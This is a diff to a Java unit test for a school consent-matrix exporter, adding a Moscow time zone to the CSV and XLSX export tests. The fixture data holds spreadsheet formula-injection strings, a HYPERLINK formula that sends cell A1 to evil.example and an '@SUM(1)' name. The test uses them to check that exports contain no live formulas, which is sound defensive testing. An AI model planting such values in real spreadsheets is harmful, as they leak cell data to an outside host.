@@ -11,6 +11,7 @@ import java.io.StringReader;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
+import java.time.ZoneId;
 import java.util.Collections;
 import java.util.HashMap;
 import java.util.List;
@@ -28,6 +29,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.xml.sax.InputSource;
 import org.xml.sax.SAXException;
+import zvonok.consent.SchoolTime;
 import zvonok.consent.evidence.domain.ConsentMatrix;
 import zvonok.consent.evidence.domain.ConsentMatrix.Row;
 import zvonok.consent.evidence.domain.ConsentMatrix.Status;
@@ -36,6 +38,7 @@ import zvonok.consent.roster.domain.Name;
 class MatrixTableTest {
 
     private static final String ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
+    private static final SchoolTime MOSCOW = new SchoolTime(ZoneId.of("Europe/Moscow"));
     private static final ConsentMatrix MATRIX = new ConsentMatrix(
             new UUID(1, 1),
             null,
@@ -44,7 +47,7 @@ class MatrixTableTest {
                             "5А",
                             new Name("Варвара", "Лаптева", null),
                             Status.GRANTED,
-                            Instant.parse("2026-09-01T08:30:15Z"),
+                            Instant.parse("2026-08-31T21:30:15Z"),
                             2,
                             1),
                     new Row("5А", new Name("@SUM(1)", ATTACK, "Ильич"), Status.PENDING, null, 1, 0)));
@@ -85,7 +88,7 @@ class MatrixTableTest {
     void xlsxHoldsStringsAndNumbersAndNoFormula(@TempDir Path directory)
             throws IOException, SAXException, ParserConfigurationException {
         Map<String, String> parts =
-                parts(directory, MatrixTable.of(MATRIX, Locale.of("ru")).xlsx());
+                parts(directory, MatrixTable.of(MATRIX, MOSCOW, Locale.of("ru")).xlsx());
         String sheet = Objects.requireNonNull(parts.get("xl/worksheets/sheet1.xml"));
         String texts = text(Objects.requireNonNull(parts.get("xl/sharedStrings.xml")));
 
@@ -104,7 +107,7 @@ class MatrixTableTest {
     }
 
     private static String csv(String language) {
-        return new String(MatrixTable.of(MATRIX, Locale.of(language)).csv(), UTF_8);
+        return new String(MatrixTable.of(MATRIX, MOSCOW, Locale.of(language)).csv(), UTF_8);
     }
 
     private static Map<String, String> parts(Path directory, byte[] xlsx) throws IOException {
